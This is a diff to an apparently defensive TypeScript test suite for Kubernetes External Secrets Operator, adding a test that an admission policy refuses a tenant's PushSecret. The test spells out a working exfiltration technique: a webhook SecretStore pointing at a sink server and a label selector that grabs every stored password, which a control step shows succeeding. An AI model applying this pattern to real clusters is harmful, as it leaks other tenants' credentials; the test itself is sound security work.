@@ -6,7 +6,10 @@
 // `edit` in its namespace (which ESO's chart extends to ExternalSecrets and PushSecrets), a cluster admin, a
 // forged AdmissionReview — and refused with nothing changed; the stored password's SHA-256 is the same at the end
 // in every namespace that uses it. Passwords are compared by SHA-256 only: no test prints one.
+import { createHash } from 'node:crypto'
 import { mkdtempSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import {
@@ -270,6 +273,54 @@ t.test('push strategy: a second push of a generated password is refused by the A
   await objects(breakGlass).patch('PushSecret', storage, 'secretwire-pushed', { metadata: { labels: { incident: '1' } } })
   await untilEsoReports(t, storage, 'secretwire-pushed', /secretwire-stored-secrets/, 'PushSecret')
   t.equal(await cluster.fingerprint(storage, 'secretwire-pushed'), pushed, 'the stored password is unchanged')
+})
+
+t.test('a PushSecret that selects Secrets by label would hand ESO every stored password: refused to tenants', async (t) => {
+  // A sink of the tenant's own: an HTTP server ESO's webhook provider pushes to (on loopback; ESO runs on this host).
+  const received: string[] = []
+  const sink = createServer((req, res) => {
+    let body = ''
+    req.setEncoding('utf8').on('data', (c: string) => { body += c }).on('end', () => {
+      try {
+        const password = (JSON.parse(body) as { password?: string }).password
+        if (password !== undefined) received.push(createHash('sha256').update(password).digest('hex'))
+      } catch { /* not a Secret */ }
+      res.end('{}')
+    })
+  })
+  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r))
+  t.teardown(() => { sink.close() })
+  const tenant = await tenantIn('intruder')
+  await tenant.makeApiClient(CustomObjectsApi).createNamespacedCustomObject({
+    group: 'external-secrets.io', version: 'v1', plural: 'secretstores', namespace: 'intruder',
+    body: {
+      apiVersion: 'external-secrets.io/v1', kind: 'SecretStore', metadata: { name: 'sink' },
+      spec: { provider: { webhook: { url: `http://127.0.0.1:${(sink.address() as AddressInfo).port}/p`, method: 'POST', result: { jsonPath: '$' } } } },
+    },
+  })
+  // Stored passwords carry ESO's managed label but, unlike the consumers' copies, no created-by label.
+  const grab = {
+    apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: { name: 'grab' },
+    spec: {
+      refreshInterval: '1h', secretStoreRefs: [{ kind: 'SecretStore', name: 'sink' }],
+      selector: { secret: { selector: {
+        matchLabels: { 'reconcile.external-secrets.io/managed': 'true' },
+        matchExpressions: [{ key: 'reconcile.external-secrets.io/created-by', operator: 'DoesNotExist' }],
+      } } },
+      data: [{ match: { remoteRef: { remoteKey: 'all' } } }],
+    },
+  }
+  await refused(t, objects(tenant).create('PushSecret', 'intruder', grab), '(ValidatingAdmissionPolicy secretwire-eso-cross-namespace)',
+    'a tenant\'s PushSecret selecting Secrets by label')
+  t.same(received, [], 'nothing reached the sink')
+
+  // The control: break-glass may create it (the policies exempt the group), and ESO does push the stored
+  // password of another namespace to the sink. This is the hole the policy closes.
+  await objects(breakGlass).create('PushSecret', 'intruder', grab)
+  await untilWebhookAnswers(async () => received.includes(original), 60_000)
+    .catch(() => { throw new Error(`the sink did not receive the stored password; it received ${received.length} Secrets`) })
+  t.pass('control: as break-glass, the same PushSecret delivers eso-secret-storage/secretwire-shared-db to the sink')
+  await objects(breakGlass).remove('PushSecret', 'intruder', 'grab')
 })
 
 t.test('at the end: every namespace that uses shared-db holds the password made first', async (t) => {
